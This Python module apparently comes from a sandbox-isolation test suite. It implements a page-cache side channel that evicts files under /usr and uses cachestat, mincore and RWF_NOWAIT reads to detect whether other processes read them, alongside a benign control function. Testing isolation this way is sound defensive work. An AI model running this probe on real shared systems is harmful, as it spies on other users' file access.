"""See in the page cache which files others use.

Technique: files of /usr lie in the kernel's page cache if anybody read them lately, in any sandbox or on the host. A
    read that must not wait (RWF_NOWAIT) succeeds for those and says EAGAIN for the others; mincore (CVE-2019-5489) and
    cachestat tell the same. POSIX_FADV_DONTNEED puts a file out of the cache, to see whether somebody fetches it back.
Success: a file that is in the cache is told from the same file when it is not.
Stopped by: seccomp
"""
import glob
import mmap


class Range(ctypes.Structure):
    _fields_ = [("offset", ctypes.c_uint64), ("length", ctypes.c_uint64)]


def nowait(file):
    return answer(os.preadv, file, [bytearray(1)], 0, os.RWF_NOWAIT) == 1


def mincore(file):
    with mmap.mmap(file, mmap.PAGESIZE, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE) as pages:
        resident = ctypes.create_string_buffer(1)
        place = ctypes.c_char.from_buffer(pages)
        told = libc.mincore(ctypes.byref(place), mmap.PAGESIZE, resident)
        del place
    return told == 0 and bool(resident.raw[0] & 1)


def cachestat(file):
    counts = (ctypes.c_uint64 * 5)()
    return answer(syscall, "cachestat", file, Range(0, mmap.PAGESIZE), counts, 0) == 0 and counts[0] > 0


def attack():
    paths = filter(os.path.isfile, glob.glob("/usr/share/doc/*/copyright") + glob.glob("/usr/bin/*"))
    paths = [path for path in paths if os.path.getsize(path) > mmap.PAGESIZE]
    # Another attack may use one of them at the same moment, or a program have it mapped, so several are tried.
    for way in (cachestat, mincore, nowait):
        for path in paths[:40]:
            file = os.open(path, os.O_RDONLY)
            os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
            os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
            before = way(file)
            os.pread(file, 1, 0)
            after = way(file)
            os.close(file)
            if after and not before:
                return f"{way.__name__} tells whether somebody read {path}"


def twin():
    """Reading at a place, into several buffers, and flags and advice that only concern one's own data."""
    with open("own.bin", "wb+", buffering=0) as own:
        assert os.pwritev(own.fileno(), [b"mi", b"ne"], 0) == 4
        first, second = bytearray(2), bytearray(2)
        assert os.preadv(own.fileno(), [first, second], 0) == 4 and first + second == b"mine"
        assert os.pwritev(own.fileno(), [b"x"], 4, os.RWF_DSYNC) == 1
        os.posix_fadvise(own.fileno(), 0, 0, os.POSIX_FADV_SEQUENTIAL)
